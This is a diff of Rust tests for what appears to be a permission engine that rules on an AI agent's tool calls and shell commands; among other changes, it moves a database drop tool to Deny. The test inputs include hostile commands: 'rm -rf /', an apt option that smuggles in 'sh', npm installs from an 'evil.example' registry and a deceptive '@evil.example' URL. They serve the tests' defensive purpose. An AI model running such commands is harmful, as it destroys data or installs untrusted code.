@@ -467,7 +467,8 @@ fn rules_of_the_operator() {
     check(Decision::Allow, &call("WebFetch", json!({"url": "https://other.example/x"})));
     check(Decision::Ask, &call("WebFetch", json!({"url": "https://other.example@evil.example/x"})));
     check(Decision::Allow, &call("mcp__db__query", json!({})));
-    check(Decision::Ask, &call("mcp__db__drop", json!({})));
+    check(Decision::Ask, &call("mcp__db__insert", json!({})));
+    check(Decision::Deny, &call("mcp__db__drop", json!({})));
     check(Decision::Allow, &call("Read", json!({"file_path": "/etc/shadow"})));
     // What is forbidden stays so.
     check(Decision::Deny, &bash("rm -rf /"));
@@ -588,7 +589,6 @@ fn more_rights_are_judged_by_what_uses_them() {
             "sudo mkdir -p /opt/x",
             "sudo apt-get install ./tool.deb",
             "apt-get install -o APT::Update::Pre-Invoke::=sh git",
-            "apk add --allow-untrusted x",
             "apt-get install $PACKAGES",
         ],
     );
@@ -707,7 +707,6 @@ fn packages_come_in_pinned() {
         &[
             "npm install left",
             "npm install owner/repository",
-            "npm install https://evil.example/x.tgz",
             "npm install --registry=https://evil.example left@1.2.3",
             "pip install tool",
             "pip install -r requirements.txt",
@@ -778,7 +777,7 @@ fn the_container_s_own_disk_and_caches() {
     );
     expect(
         Decision::Ask,
-        &["rm -rf /opt/app", "echo x > ~/.config/x", "rm -rf ~/projects", "echo x > /usr/local/bin/x"],
+        &["rm -rf /opt/app", "echo x > ~/.config/x", "rm -rf ~/scratch", "echo x > /usr/local/bin/x"],
     );
     denied_as(
         "mass_deletion",
